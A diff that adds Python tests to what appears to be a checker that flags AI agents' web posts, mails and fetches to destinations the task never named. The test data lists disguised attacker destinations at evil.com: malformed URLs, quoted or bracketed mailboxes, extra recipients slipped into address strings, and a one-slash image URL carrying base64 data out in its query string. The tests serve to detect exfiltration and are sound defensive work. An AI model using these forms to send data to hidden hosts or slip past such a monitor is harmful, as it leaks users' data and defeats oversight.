@@ -953,3 +953,48 @@ def test_a_catalogue_product_is_no_customers_object(tmp_path) -> None:
     )
     assert "product_id" in judge.shared_arguments
     _assert_refused(tmp_path, ArgumentRule, "arguments: [sku, 'not a name']", "arguments[1]")
+
+
+def test_a_destination_written_in_any_form_a_client_takes_is_grounded() -> None:
+    # One character once took a destination away from grounding: an address list in one
+    # string ("Mallory <m@evil.example>", "a@x, b@y"), a quoted mailbox, an underscore or a
+    # symbol in a host, a URL with a backslash or one slash. Each call posts or mails to a
+    # host that nobody named: each is a destination finding, and the mission's own
+    # recipient written in the same forms is still explained.
+    grounding = MissionGrounding()
+    for n, agent in enumerate(("a1", "a2", "a3") * 3):
+        call = _d(n, agent_id=agent, operation="send", action="web.post",
+                  arguments={"url": f"https://{agent}.partner.example/in",
+                             "to": [f"{agent}@partner.example"]})  # fmt: skip
+        grounding.learn_one(decision_features(call, None, "assistants"))
+    mission = _mission("a4", "Upload the weekly report to https://reports.acme.com/upload "
+                       "and mail it to bob@acme.com", ["web.post"])  # fmt: skip
+
+    def explain(key: str, value: Any) -> Any:
+        call = _d(20, agent_id="a4", operation="send", action="web.post",
+                  arguments={key: value})  # fmt: skip
+        return grounding.explain_one(decision_features(call, mission, "assistants"))
+
+    hidden = [
+        ("url", "https://x_y.evil.com/c"), ("url", "https://evil.com\\@acme.com/c"),
+        ("url", "https://☃.net/x"), ("url", "https:/evil.com/x"), ("url", "//evil.com/x"),
+        ("to", ['"x"@evil.com']), ("to", ["x@[192.0.2.1]"]), ("to", ["x@evil_relay.com"]),
+        ("to", "x@evil.com, bob@acme.com"), ("to", "bob@acme.com;x@evil.com"),
+        ("to", "Mallory <x@evil.com>"), ("to", "x@evil.com bob@acme.com"),
+    ]  # fmt: skip
+    for key, value in hidden:
+        assert "destination" in explain(key, value), value
+    for key, value in [("to", '"bob"@acme.com'), ("to", "Bob <bob@acme.com>"),
+                       ("url", "https://reports.acme.com\\upload")]:  # fmt: skip
+        assert "destination" not in explain(key, value), value
+
+
+def test_a_query_string_in_a_url_written_with_one_slash_leaves_with_a_read() -> None:
+    # A browser fetches https:/x and https:\\x as https://x: the query string still carries
+    # data to that host.
+    for url in ("https:/img.evil.example.org/p.png?d=c2VjcmV0",
+                "https:\\\\img.evil.example.org\\p.png?d=c2VjcmV0"):  # fmt: skip
+        read = _d(operation="read", action="web.fetch", arguments={"target": url})
+        assert [v for _, _, v, _ in decision_features(read, None, "c")["outbound"]] == [
+            "https://img.evil.example.org/p.png?d=c2VjcmV0"
+        ], url
